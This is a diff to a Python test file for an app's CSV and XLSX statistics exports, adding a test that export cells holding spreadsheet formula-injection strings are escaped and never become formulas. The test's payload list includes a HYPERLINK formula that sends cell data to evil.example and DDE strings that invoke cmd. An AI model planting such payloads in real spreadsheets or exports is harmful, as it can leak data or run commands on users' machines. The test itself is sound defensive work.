@@ -1,12 +1,16 @@
-"""Statistics exports over the real HTTP app: CSV with a BOM and Chinese intact, XLSX readable."""
+"""Statistics exports over the real HTTP app: CSV with a BOM and Chinese intact, XLSX readable,
+user text never a formula."""
 
 from __future__ import annotations
 
 import csv
 import io
 
+import pytest
+from neo4j import Driver
 from openpyxl import load_workbook
 
+from graph.settings import Settings
 from tests.conftest import GraphQLClient
 from tests.schema.test_proposals import seed_and_submit
 
@@ -44,7 +48,9 @@ def test_bad_parameter_is_400(api: GraphQLClient) -> None:
     ):
         response = api.get(f"/export/proposal-stats.csv?{query}")
         assert response.status_code == 400, query
-        assert response.json()["error"]["parameter"] == param
+        error = response.json()["errors"][0]
+        assert error["extensions"] == {"code": "INVALID", "parameter": param}
+        assert " / " in error["message"]
 
 
 def test_exports_need_a_token_in_the_header(api: GraphQLClient) -> None:
@@ -57,4 +63,45 @@ def test_exports_need_a_token_in_the_header(api: GraphQLClient) -> None:
     # With a header, `token` is just an unknown parameter.
     with_both = api.get(f"/export/proposal-stats.csv?groupBy=STATUS&token={secret}")
     assert with_both.status_code == 400
-    assert with_both.json()["error"]["parameter"] == "token"
+    assert with_both.json()["errors"][0]["extensions"]["parameter"] == "token"
+
+
+# OWASP's formula starters; each must reach the spreadsheet as text, escaped with a quote.
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("name", DANGEROUS)
+def test_names_never_become_formulas(
+    api: GraphQLClient, clean_graph: Driver, neo4j_settings: Settings, name: str
+) -> None:
+    seed_and_submit(api)
+    # Straight into the graph: the export must be safe whatever the API lets in.
+    clean_graph.execute_query(
+        "MATCH (g:DeputyGroup) SET g.name = $name", name=name, database_=neo4j_settings.database
+    )
+    query = "groupBy=GROUP&from=2024-01-01"
+
+    csv_response = api.get(f"/export/proposal-stats.csv?{query}")
+    assert csv_response.status_code == 200
+    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"), newline="")))
+    assert rows[1][1] == "'" + name
+    assert rows[1][2] == "1"  # counts stay plain numbers
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+
+    xlsx_response = api.get(f"/export/proposal-stats.xlsx?{query}")
+    assert xlsx_response.status_code == 200
+    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    # XML turns a CR in text into LF; the escaping quote is what matters.
+    assert sheet["B2"].value == "'" + name.replace("\r", "\n")
+    assert sheet["B2"].data_type == "s"
+    assert sheet["C2"].value == 1 and sheet["C2"].data_type == "n"
